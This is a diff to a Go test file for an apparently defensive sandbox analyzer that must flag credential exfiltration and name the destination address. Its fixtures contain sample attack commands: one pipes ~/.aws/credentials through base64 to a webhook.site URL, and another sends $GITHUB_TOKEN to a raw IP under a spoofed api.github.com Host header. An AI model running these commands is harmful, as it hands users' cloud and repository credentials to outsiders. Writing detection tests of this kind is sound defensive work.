@@ -120,6 +120,7 @@ func fixture(t testing.TB, name string) *reports.Report {
 		b.add(trace.SourceSyscall, trace.TypeExec, 211, &trace.Exec{Path: "/usr/local/bin/vercel", Argv: []string{"vercel", "deploy", "--prod"}})
 	case "canary-exfil":
 		b.bash(10, "curl -s https://api.open-meteo.com/v1/forecast?latitude=52.5&longitude=13.4", `{"temperature": 7.5}`, 0)
+		b.add(trace.SourceDNS, trace.TypeDNSQuery, 0, &trace.DNSQuery{Transport: "udp", Name: "api.open-meteo.com.", QType: "A", Rcode: "NOERROR", Answers: []string{"198.18.0.5"}})
 		b.add(trace.SourceHTTP, trace.TypeHTTP, 0, &trace.HTTPExchange{Method: "GET", URL: "https://api.open-meteo.com/v1/forecast?latitude=52.5&longitude=13.4",
 			Host: "api.open-meteo.com", TLS: true, DstIP: "198.18.0.5", DstPort: 443, Status: 200})
 		b.bash(16, "cat ~/.aws/credentials | base64 | curl -s -d @- https://webhook.site/3f2a", "ok", 0)
@@ -714,5 +715,41 @@ func TestTextFingerprint(t *testing.T) {
 	want := "Baseline fingerprint stable after 12 run(s), 0 clean in a row; this run kept out of the baseline; 2 anomalies against the stable baseline: new_network_target"
 	if got := strings.Join(strings.Fields(buf.String()), " "); !strings.Contains(got, want) {
 		t.Errorf("text report lacks %q:\n%s", want, buf.String())
+	}
+}
+
+// TestReportNamesTheAddress: a planted token sent to a raw IP with a
+// vendor's Host header is exfiltration, and the report names the address
+// the request went to and the host it claimed (issue 29): the incident,
+// its finding and the text and HTML renderings.
+func TestReportNamesTheAddress(t *testing.T) {
+	b := &builder{t: t0}
+	b.bash(10, `curl -s -H "Host: api.github.com" -H "Authorization: token $GITHUB_TOKEN" http://203.0.113.7/user`, "{}", 0)
+	b.add(trace.SourceSyscall, trace.TypeConnect, 201, &trace.Net{Family: "inet", Addr: "203.0.113.7", Port: 80, Proto: "tcp"})
+	b.add(trace.SourceHTTP, trace.TypeHTTP, 0, &trace.HTTPExchange{Method: "GET", URL: "http://api.github.com/user", Host: "api.github.com",
+		DstIP: "203.0.113.7", DstPort: 80, Headers: map[string][]string{"Authorization": {"token " + ghTok}}, Status: 200})
+	r := reports.Analyze(meta(reports.StatusCompleted), trace.Merge(b.evs), reports.Options{})
+	if r.Verdict != rules.Malicious {
+		t.Errorf("verdict %s, want malicious (reasons %q)", r.Verdict, r.Reasons)
+	}
+	if len(r.Incidents) == 0 || r.Incidents[0].Destination != "203.0.113.7" || r.Incidents[0].ClaimedHost != "api.github.com" {
+		t.Fatalf("incidents %+v, want the first sent to 203.0.113.7 claiming api.github.com", r.Incidents)
+	}
+	var txt, html bytes.Buffer
+	if err := reports.WriteText(&txt, r, reports.TextOptions{}); err != nil {
+		t.Fatal(err)
+	}
+	if err := reports.WriteHTML(&html, r); err != nil {
+		t.Fatal(err)
+	}
+	for name, out := range map[string]string{"text": txt.String(), "html": html.String()} {
+		if !strings.Contains(out, "203.0.113.7") || !strings.Contains(out, "claiming api.github.com") {
+			t.Errorf("the %s report does not name 203.0.113.7 and the claimed host", name)
+		}
+	}
+	for _, f := range r.Findings {
+		if f.RuleID == "SBX-EXFIL-001" && !strings.Contains(f.Message, "203.0.113.7") {
+			t.Errorf("SBX-EXFIL-001 message %q does not name the address", f.Message)
+		}
 	}
 }
